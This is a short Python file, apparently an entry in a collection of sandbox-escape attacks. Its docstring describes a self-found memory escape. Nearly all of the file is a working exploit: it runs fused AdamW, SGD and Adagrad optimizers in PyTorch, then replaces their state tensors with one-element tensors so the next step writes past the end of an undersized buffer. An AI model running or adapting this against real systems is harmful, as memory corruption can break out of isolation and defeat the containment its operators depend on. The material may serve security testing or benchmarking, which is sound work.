"""Class: memory. Source: own find. Escape: each fused optimizer writes past a state that is too
small."""

import torch


def attack(model, tokenizer, address):
    for make in (
        lambda p: torch.optim.AdamW([p], lr=0.1, fused=True),
        lambda p: torch.optim.SGD([p], lr=0.1, momentum=0.9, fused=True),
        lambda p: torch.optim.Adagrad([p], lr=0.1, fused=True),
    ):
        p = torch.zeros(3000000, requires_grad=True)
        p.grad = torch.ones_like(p)
        try:
            optimizer = make(p)
            optimizer.step()
            for name in list(optimizer.state[p]):
                if name != "step":
                    optimizer.state[p][name] = torch.zeros(1)
            optimizer.step()
        except RuntimeError:
            pass
